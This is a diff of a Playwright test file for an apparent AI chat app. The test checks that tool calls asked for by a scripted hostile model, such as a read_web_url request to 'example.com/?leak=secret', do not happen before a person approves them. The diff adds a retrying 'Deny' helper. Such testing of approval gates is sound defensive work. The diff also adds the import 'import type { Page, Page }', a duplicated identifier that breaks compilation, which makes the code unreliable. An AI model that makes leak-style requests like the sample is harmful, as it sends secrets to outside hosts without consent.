@@ -1,6 +1,6 @@
 import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
-import type { Page } from '@playwright/test'
+import type { Page, Page } from '@playwright/test'
 import { calling, callingAll, saying } from '../helpers/chat-answers'
 import { modelServer } from '../helpers/model-server'
 import { seriousFindings } from './axe'
@@ -47,6 +47,15 @@ const hostile: readonly [mode: Mode, tool: string, input: object, grave?: boolea
   ['Full', 'read_web_url', { url: 'https://example.com/?leak=secret' }],
 ]
 
+/** A card that moves at the moment of a click does not take it, so that a person clicks again. */
+async function deny(page: Page): Promise<void> {
+  await expect(async () => {
+    if (await card(page).isVisible())
+      await card(page).getByRole('button', { name: 'Deny', exact: true }).click({ timeout: 2_000 })
+    await expect(card(page)).toHaveCount(0, { timeout: 2_000 })
+  }).toPass()
+}
+
 test('nothing that a hostile model asks for happens before the person agrees', async ({ launch, folder }) => {
   test.setTimeout(180_000)
   const { server, workspace, page } = await start({ launch, folder })
@@ -65,7 +74,7 @@ test('nothing that a hostile model asks for happens before the person agrees', a
     if (grave) await expect(card(page)).toHaveAttribute('data-grave', 'true')
     expect(await countFiles(workspace)).toBe(before)
     expect(await isThere(workspace, 'canary')).toBe(false)
-    await card(page).getByRole('button', { name: 'Deny', exact: true }).click()
+    await deny(page)
     await expect(timeline(page)).toContainText(word)
     await expect(page.getByRole('button', { name: 'Stop', exact: true })).toHaveCount(0)
   }
